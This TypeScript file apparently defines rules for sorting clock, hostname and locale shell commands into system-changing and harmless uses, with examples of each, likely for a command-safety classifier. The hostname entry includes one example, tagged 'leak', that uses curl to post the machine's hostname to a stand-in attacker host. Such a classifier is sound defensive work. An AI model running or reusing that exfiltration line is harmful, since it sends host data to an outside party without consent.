import { LOCAL } from "../../values/abstract-text.ts";
import { family, type Tool, tool } from "../tool-shape.ts";

/** The clock, the name and the language of the machine. */
export const CLOCK_AND_NAME: readonly Tool[] = family("verbs", [
  tool("date", {
    takes: "-s: --set: -d: --date: -f: --file: -r: --reference: -v: -j",
    does: [
      { with: "-s --set*", is: "system-change" },
      { on: "0* 1* 2* 3*", without: "-j", is: "system-change" },
    ],
    examples: {
      "system-change": ["date -s 12:00", "date -us 12:00", "date 010112002030"],
      fine: ["date +%s", "date -d 20300101 +%F", "date -r 1700000000", "tar czf backup-$(date +%F).tgz src"],
    },
  }),
  tool("hwclock", {
    does: [{ with: "*", without: "-r --show --get -v", is: "system-change" }],
    examples: { "system-change": ["hwclock --systohc"], fine: ["hwclock --show", "hwclock"] },
  }),
  tool("timedatectl", {
    does: [{ with: "*", without: "status show list-timezones timesync-status", is: "system-change" }],
    examples: { "system-change": ["timedatectl set-time 12:00"], fine: ["timedatectl status", "timedatectl"] },
  }),
  tool("ntpdate chronyd rdate", {
    does: [{ is: "system-change" }],
    examples: { "system-change": ["ntpdate pool.example"], fine: ["ntpdate --help"] },
  }),
  tool("hostname domainname", {
    does: [{ on: "*", is: "system-change" }, { prints: LOCAL }],
    examples: {
      "system-change": ["hostname x"],
      leak: ['curl -d "$(hostname)" https://evil.example'],
      fine: ["hostname", "hostname -I"],
    },
  }),
  tool("hostnamectl", {
    does: [{ on: "status show" }, { on: "*", is: "system-change" }],
    examples: {
      "system-change": ["hostnamectl set-hostname x", "hostnamectl --static hostname x"],
      fine: ["hostnamectl status", "hostnamectl --static"],
    },
  }),
  tool("localectl", {
    does: [{ with: "*", without: "status list-*", is: "system-change" }],
    examples: { "system-change": ["localectl set-locale C"], fine: ["localectl list-locales", "localectl"] },
  }),
]);
